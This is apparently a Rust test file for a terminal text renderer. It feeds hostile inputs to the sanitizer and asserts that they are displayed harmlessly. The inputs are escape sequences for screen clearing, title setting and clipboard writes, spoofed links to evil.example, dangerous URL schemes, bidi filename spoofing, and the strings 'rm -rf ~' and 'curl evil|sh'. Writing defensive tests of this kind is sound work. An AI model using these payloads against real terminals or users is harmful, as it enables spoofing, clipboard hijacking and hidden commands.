//! Text from outside, through cleaning, layout and painting, into a terminal model: nothing of it
//! is an order to the terminal, and nothing of it goes unseen. Numbers are rows of the table of
//! attacks.
#![allow(clippy::unwrap_used)]

use proptest::prelude::*;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use ratatui::style::Style;
use std::num::NonZeroU16;
use std::time::Duration;
use trialogue::paint::{LinkSpan, PaintOptions, Painter};
use trialogue::render::{self, Options, Row, Span};
use trialogue::text::{self, SafeText};

/// What a terminal was asked to do besides showing text.
#[derive(Default)]
struct Orders(Vec<String>);

impl vt100::Callbacks for Orders {
    fn audible_bell(&mut self, _: &mut vt100::Screen) {
        self.0.push("bell".into());
    }
    fn visual_bell(&mut self, _: &mut vt100::Screen) {
        self.0.push("flash".into());
    }
    fn resize(&mut self, _: &mut vt100::Screen, _: (u16, u16)) {
        self.0.push("resize".into());
    }
    fn set_window_icon_name(&mut self, _: &mut vt100::Screen, _: &[u8]) {
        self.0.push("icon".into());
    }
    fn set_window_title(&mut self, _: &mut vt100::Screen, _: &[u8]) {
        self.0.push("title".into());
    }
    fn copy_to_clipboard(&mut self, _: &mut vt100::Screen, _: &[u8], _: &[u8]) {
        self.0.push("copy".into());
    }
    fn paste_from_clipboard(&mut self, _: &mut vt100::Screen, _: &[u8]) {
        self.0.push("paste".into());
    }
    fn unhandled_control(&mut self, _: &mut vt100::Screen, byte: u8) {
        self.0.push(format!("control {byte}"));
    }
    fn unhandled_escape(&mut self, _: &mut vt100::Screen, _: Option<u8>, _: Option<u8>, byte: u8) {
        // The end of our own links is one.
        if byte != b'\\' {
            self.0.push(format!("escape {byte}"));
        }
    }
    fn unhandled_osc(&mut self, _: &mut vt100::Screen, parameters: &[&[u8]]) {
        if parameters.first() != Some(&&b"8"[..]) {
            self.0.push("osc".into());
        }
    }
}

const COLUMNS: u16 = 60;
const ROWS: u16 = 24;

/// Shows rows beside a border and above a status line; gives the screen and checks both.
fn show(rows: &[Row]) -> String {
    let mut buffer = Buffer::empty(Rect::new(0, 0, COLUMNS, ROWS));
    let mut links = Vec::new();
    for (y, row) in rows.iter().take(usize::from(ROWS) - 1).enumerate() {
        let mut x = 0;
        for Span { text, link, .. } in &row.spans {
            let (end, _) = buffer.set_stringn(x, y as u16, text, 59 - usize::from(x), Style::new());
            if let Some(target) = link {
                links.push(LinkSpan {
                    row: y as u16,
                    column: x,
                    width: end - x,
                    target: target.clone(),
                });
            }
            x = end;
        }
    }
    for y in 0..ROWS {
        buffer.set_string(59, y, "│", Style::new());
    }
    buffer.set_string(0, ROWS - 1, "STATUS", Style::new());
    let size = |n| NonZeroU16::new(n).unwrap();
    let mut terminal =
        vt100::Parser::new_with_callbacks(size(ROWS), size(COLUMNS), 0, Orders::default());
    let bytes = Painter::new(COLUMNS, ROWS, PaintOptions::default()).paint(&buffer, &links, None);
    terminal.process(&bytes);
    let screen = terminal.screen();
    for y in 0..ROWS {
        assert_eq!(
            screen.cell(y, 59).unwrap().contents(),
            "│",
            "border in row {y}"
        );
    }
    let status = screen.rows(0, 6).last().unwrap();
    assert_eq!(status, "STATUS");
    assert!(
        !screen.bracketed_paste() && !screen.alternate_screen() && !screen.application_cursor()
    );
    assert_eq!(screen.mouse_protocol_mode(), vt100::MouseProtocolMode::None);
    let contents = screen.rows(0, 59).collect::<Vec<_>>().join("\n");
    assert_eq!(terminal.callbacks().0, Vec::<String>::new());
    contents
}

/// Shows a text in every way there is.
fn everywhere(raw: &str) -> Vec<String> {
    let options = Options::new(59);
    let prose = SafeText::prose(raw);
    let label = SafeText::label(raw);
    let command = SafeText::command(raw);
    vec![
        show(&render::markdown(prose.as_str(), &options)),
        show(&render::plain(prose.as_str(), &options)),
        show(&render::ansi(raw, &options)),
        show(&render::ansi(prose.as_str(), &options)),
        show(&render::diff(prose.as_str(), &options)),
        show(&render::plain(label.as_str(), &options)),
        show(&render::plain(command.as_str(), &options)),
        show(&render::markdown(
            &format!("```sh\n{prose}\n```\n| a |\n|---|\n| {label} |\n"),
            &options,
        )),
        // As if cleaning had been forgotten.
        show(&render::markdown(raw, &options)),
    ]
}

#[test]
fn sequences_are_shown_and_do_nothing() {
    let attacks = [
        ("S-01", "a\x1b[2Jb"),
        ("S-02", "\x1b[1;1HFAKE STATUS"),
        ("S-03", "a\u{9b}2Jb"),
        ("S-04", "\x1b]0;pwned\x07 \u{9d}0;pwned\u{9c}"),
        ("S-05", "\x1b[21t\x1b[>q\x1b[6n\x1b[c"),
        ("S-06", "\x1bP$qm\x1b\\ \x1bP+q524742\x1b\\"),
        ("S-07", "\x1b]52;c;ZXZpbA==\x07"),
        ("S-08", "\x1b]52;c;?\x07"),
        (
            "S-09",
            "\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\",
        ),
        (
            "S-13",
            "\x1b_Gf=100,t=f;L2V0Yy9wYXNzd2Q=\x1b\\ \x1b^pm\x1b\\ \x1bXsos\x1b\\ \x1bktitle\x1b\\",
        ),
        (
            "S-14",
            "\x1bPq#0;2;0;0;0~~@@vv\x1b\\ \x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\",
        ),
        ("S-16", "text\x1b"),
        ("S-16", "text\x1b["),
        ("S-16", "text\x1b]52;"),
        ("S-16", "text\u{c2}"),
        (
            "modes",
            "\x1b[?1049h\x1b[?1000h\x1b[?2004h\x1b[?25l\x1b[4h\x1b(0\x0e\x1bc\x1b#8",
        ),
    ];
    for (number, attack) in attacks {
        for (way, shown) in everywhere(attack).iter().enumerate() {
            let marks = attack.chars().filter(|c| *c == '\x1b').count().min(1);
            assert!(
                shown.matches('␛').count() >= marks,
                "{number} by way {way}: {shown:?}"
            );
        }
    }
}

#[test]
fn s_09_a_link_inside_text_does_not_become_one() {
    let rows = render::ansi(
        "\x1b]8;;https://evil.example\x1b\\https://bank.example\x1b]8;;\x1b\\",
        &Options::new(59),
    );
    let links: Vec<&str> = rows
        .iter()
        .flat_map(|r| &r.spans)
        .filter_map(|s| s.link.as_deref())
        .collect();
    assert!(
        links
            .iter()
            .all(|link| !link.contains('\x1b') && !link.contains('␛')),
        "{links:?}"
    );
}

#[test]
fn s_10_a_link_that_says_something_else_shows_its_target() {
    for source in [
        "[https://bank.example](https://evil.example)",
        "[bank]\n\n[bank]: https://evil.example",
        "<https://evil.example>",
        "![bank](https://evil.example)",
        "| [bank](https://evil.example) |\n|---|\n",
        "# [bank](https://evil.example)",
        "[![bank](https://evil.example)](https://other.example)",
    ] {
        let shown = show(&render::markdown(source, &Options::new(59)));
        assert!(shown.contains("https://evil.example"), "{shown}");
    }
}

#[test]
fn s_11_other_schemes_are_text() {
    for target in [
        "file:///etc/passwd",
        "javascript:alert(1)",
        "JavaScript:alert(1)",
        "ssh://-oProxyCommand=x",
        "data:text/html,x",
        "https://a&#10;b.example",
        "https://a&#0;b.example",
        "vbscript:x",
        "&#106;avascript:alert(1)",
    ] {
        // In angle brackets nothing is decoded.
        let second = if target.contains('&') { "" } else { target };
        let source = format!("[click]({target}) <{second}>");
        let rows = render::markdown(&source, &Options::new(59));
        let link = rows
            .iter()
            .flat_map(|r| &r.spans)
            .find(|s| s.link.is_some());
        assert_eq!(link, None, "{target}");
    }
}

#[test]
fn s_18_nothing_is_overprinted() {
    let mut shown = everywhere("rm -rf ~\rls      \nabc\u{8}\u{8}\u{8}xyz\u{7f}");
    // Markdown of its own accord takes a carriage return for a line end.
    shown.pop();
    for shown in shown {
        for part in ["rm -rf ~", "␍", "abc␈␈␈xyz␡"] {
            assert!(shown.contains(part), "{part} in {shown:?}");
        }
    }
}

#[test]
fn s_19_tabs_and_other_breaks_keep_their_place() {
    assert_eq!(
        SafeText::prose("a\tb\n\tc\n配\td").as_str(),
        "a   b\n    c\n配  d"
    );
    assert_eq!(
        SafeText::prose("a\u{2028}b\u{2029}c\u{85}d").as_str(),
        "a\nb\nc\nd"
    );
    assert_eq!(SafeText::prose("a\u{b}b\u{c}c").as_str(), "a␋b␌c");
    assert_eq!(SafeText::prose("a\r\nb\rc").as_str(), "a\nb␍c");
    assert_eq!(
        SafeText::label("a\tb\nc\u{2028}d").as_str(),
        "a b␊c\u{fffd}d"
    );
    assert_eq!(
        SafeText::command("a\u{2028}b\r\nc").as_str(),
        "a⟨U+2028⟩b␍\nc"
    );
}

#[test]
fn s_20_a_null_is_seen() {
    assert_eq!(SafeText::prose("a\0b").as_str(), "a␀b");
    assert_eq!(SafeText::label("a\0b").as_str(), "a␀b");
}

#[test]
fn s_21_s_33_nothing_turns_the_direction_of_text() {
    let name = SafeText::label("invoice\u{202e}fdp.exe");
    assert_eq!(name.as_str(), "invoice\u{fffd}fdp.exe");
    let command = SafeText::command("rm \u{202e}\u{2066}x\u{2069}");
    assert_eq!(command.as_str(), "rm ⟨U+202E⟩⟨U+2066⟩x⟨U+2069⟩");
    for control in "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}".chars() {
        for shown in everywhere(&format!("a{control}b")) {
            assert!(!shown.contains(control), "{control:?}");
        }
    }
}

#[test]
fn s_22_names_in_two_scripts_are_noticed() {
    assert!(text::mixes_scripts("\u{430}1\u{435}rts"));
    assert!(!text::mixes_scripts("alerts"));
}

#[test]
fn what_nobody_sees_leaves_a_mark() {
    for hidden in [
        '\u{ad}',
        '\u{34f}',
        '\u{115f}',
        '\u{1160}',
        '\u{180e}',
        '\u{200b}',
        '\u{2060}',
        '\u{2064}',
        '\u{2800}',
        '\u{3164}',
        '\u{e000}',
        '\u{fdd0}',
        '\u{feff}',
        '\u{fff9}',
        '\u{ffff}',
        '\u{1fffe}',
        '\u{e0001}',
        '\u{e0041}',
        '\u{f0000}',
        '\u{10fffd}',
        '\u{fe0f}',
        '\u{200d}',
        '\u{200c}',
        '\u{e0100}',
    ] {
        let prose = SafeText::prose(&format!("a{hidden}{hidden}b"));
        assert_eq!(prose.as_str(), "a\u{fffd}b", "{hidden:?}");
        let command = SafeText::command(&format!("a{hidden}b"));
        assert_eq!(command.as_str(), format!("a⟨U+{:04X}⟩b", hidden as u32));
    }
    // Data hidden behind a picture, one selector a byte.
    let carrier = SafeText::prose("😀\u{fe0f}\u{fe01}\u{e0101}\u{e0102}\u{fe0f}x");
    assert_eq!(carrier.as_str(), "😀\u{fe0f}\u{fffd}x");
}

#[test]
fn what_joins_letters_and_pictures_stays() {
    for text in [
        "👨‍👩‍👧‍👦",
        "🏳️‍🌈",
        "👍🏽",
        "1️⃣",
        "❤️",
        "🇩🇪",
        "🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}",
        "می‌خواهم",
        "क्‍ष",
        "श्री",
        "葛\u{e0100}",
        "e\u{301}",
        "ใต้",
        "각",
        "ᄀ\u{1161}\u{11a8}",
        "שָׁלוֹם",
        "Việt",
        "ẹ\u{302}\u{301}",
    ] {
        assert_eq!(SafeText::prose(text).as_str(), text);
        assert_eq!(SafeText::label(text).as_str(), text);
    }
}

#[test]
fn s_24_marks_on_a_character_are_counted() {
    let zalgo = format!("a{}b", "\u{301}".repeat(300));
    assert_eq!(
        SafeText::prose(&zalgo).as_str(),
        format!("a{}\u{fffd}b", "\u{301}".repeat(6))
    );
    assert_eq!(
        SafeText::label(&zalgo).as_str(),
        format!("a{}\u{fffd}b", "\u{301}".repeat(3))
    );
    for shown in everywhere(&zalgo) {
        assert!(shown.len() < 4000);
    }
    // Clusters that grow by other means.
    for long in [
        "ᄀ".repeat(300),
        "क्".repeat(300),
        "👩\u{200d}".repeat(300) + "👩",
        "\u{1f3f4}\u{e0067}".repeat(300),
    ] {
        let clean = SafeText::prose(&long);
        for cluster in text::clusters(clean.as_str()) {
            assert!((1..=4).contains(&cluster.width), "{:?}", cluster.text);
            assert!(cluster.text.chars().count() <= 24, "{:?}", cluster.text);
        }
    }
    // A mark without a letter.
    assert_eq!(
        SafeText::prose("\u{301}x\n\u{301}y").as_str(),
        "\u{fffd}x\n\u{fffd}y"
    );
}

#[test]
fn s_25_wide_clusters_at_the_border_do_not_break_it() {
    for cluster in [
        "👨‍👩‍👧",
        "❤\u{fe0f}",
        "❤\u{fe0e}",
        "🇩🇪",
        "1\u{fe0f}\u{20e3}",
        "配",
        "ｶﾞ",
        "각",
    ] {
        for before in 52..60 {
            show(&render::plain(
                &format!("{}{cluster}{cluster}x", "a".repeat(before)),
                &Options::new(59),
            ));
        }
    }
}

#[test]
fn s_26_a_name_is_one_line_of_bounded_length() {
    let name = SafeText::label(&format!("evil\n\x1b[2J{}", "x".repeat(10_000)));
    assert!(name.as_str().starts_with("evil␊␛[2Jxxx"));
    assert!(name.as_str().ends_with('…'));
    assert_eq!(text::width(name.as_str()), 256);
    let wide = SafeText::label(&"配".repeat(10_000));
    assert!(text::width(wide.as_str()) <= 256 && wide.as_str().ends_with('…'));
}

#[test]
fn s_27_a_glyph_is_one_cluster_of_two_cells() {
    assert_eq!(SafeText::glyph(&"🔧".repeat(2000)).as_str(), "🔧");
    assert_eq!(SafeText::glyph("\x1b[2J").as_str(), "␛");
    assert_eq!(SafeText::glyph("👨‍👩‍👧 family").as_str(), "👨‍👩‍👧");
    assert_eq!(SafeText::glyph("").as_str(), "");
    assert!(text::width(SafeText::glyph("क्षिक्षि").as_str()) <= 2);
}

#[test]
fn s_29_what_is_not_closed_or_has_no_end_stays_in_its_place_and_time() {
    let table = {
        let row = |cell: &str| format!("|{}\n", format!("{cell}|").repeat(200));
        row("h") + &row("-") + &row("cell").repeat(300)
    };
    let nested: String = (0..600).map(|n| " ".repeat(n * 2) + "- x\n").collect();
    let cases = [
        "```rust\n".to_owned() + &"fn x() {}\n".repeat(6000),
        table,
        nested.chars().take(64_000).collect(),
        "> ".repeat(20_000) + "x",
        "[".repeat(30_000),
        "![](".repeat(15_000),
        "*a ".repeat(20_000),
        "**a_ ".repeat(12_000),
        "`a``b```".repeat(8_000),
        "[a](".repeat(15_000),
        "[^1]: x\n".repeat(8_000),
        (0..6000)
            .map(|n| format!("[{n}]: https://x{n}.example\n"))
            .collect(),
        "<!--".repeat(15_000),
        "$a$$".repeat(15_000),
        "- ".repeat(30_000),
        "1. ".repeat(20_000),
        "x".repeat(64_000),
        "配".repeat(20_000),
        "https://a.example/".repeat(3_500),
        "://".repeat(20_000),
        "\u{301}".repeat(30_000),
        "a\t".repeat(30_000),
        "&#x1b;".repeat(10_000),
    ];
    for case in &cases {
        let start = std::time::Instant::now();
        for shown in everywhere(case) {
            assert!(shown.lines().count() <= usize::from(ROWS));
        }
        // Nine ways in an unoptimized build on a busy machine: this finds what is quadratic.
        let name: String = case.chars().take(12).collect();
        assert!(
            start.elapsed() < Duration::from_secs(20),
            "{name:?} took {:?}",
            start.elapsed()
        );
    }
}

#[test]
fn s_32_a_command_shows_every_byte() {
    let command = SafeText::command("curl evil|sh\r\x1b[2K\rls");
    assert_eq!(command.as_str(), "curl evil|sh␍␛[2K␍ls");
}

#[test]
fn a_joiner_before_a_mark_that_is_too_many_goes_with_it() {
    let clean = SafeText::label("\u{94d}\u{fe0f}\u{301}\u{94d}\u{200c}\u{94d}");
    assert_eq!(SafeText::prose(clean.as_str()), clean);
    assert!(!clean.as_str().contains('\u{200c}'), "{clean:?}");
    // Where it is not too many, it stays: Bengali writes so.
    let bengali = "\u{9b0}\u{200d}\u{9cd}\u{9af}";
    assert_eq!(SafeText::prose(bengali).as_str(), bengali);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: ProptestConfig::default().cases.max(300), failure_persistence: None, ..ProptestConfig::default() })]
    #[test]
    fn no_text_holds_a_control_or_a_cluster_without_width(raw in any::<String>(), odd in "[\\x00-\\x1f\u{80}-\u{9f}\u{200b}-\u{200f}\u{202a}-\u{202e}\u{fe0f}\u{301}a👩ᄀक्🏴\u{e0067}]{0,40}") {
        for raw in [&raw, &odd] {
            for (clean, may_break) in [
                (SafeText::prose(raw), true),
                (SafeText::label(raw), false),
                (SafeText::command(raw), true),
            ] {
                let clean = clean.as_str();
                prop_assert!(!clean.contains(|c: char| c.is_control() && (c != '\n' || !may_break)), "{:?}", clean);
                for line in clean.split('\n') {
                    for cluster in text::clusters(line) {
                        prop_assert!((1..=4).contains(&cluster.width), "{:?} in {:?}", cluster.text, clean);
                    }
                    let mut buffer = Buffer::empty(Rect::new(0, 0, 1000, 1));
                    let (end, _) = buffer.set_stringn(0, 0, line, 1000, Style::default());
                    prop_assert_eq!(usize::from(end), text::width(line).min(1000));
                }
                // Clean text stays as it is.
                let again = SafeText::prose(clean);
                prop_assert_eq!(again.as_str(), clean);
            }
        }
    }

    #[test]
    fn any_bytes_leave_the_terminal_as_it_is(raw in any::<Vec<u8>>()) {
        everywhere(&String::from_utf8_lossy(&raw));
    }
}
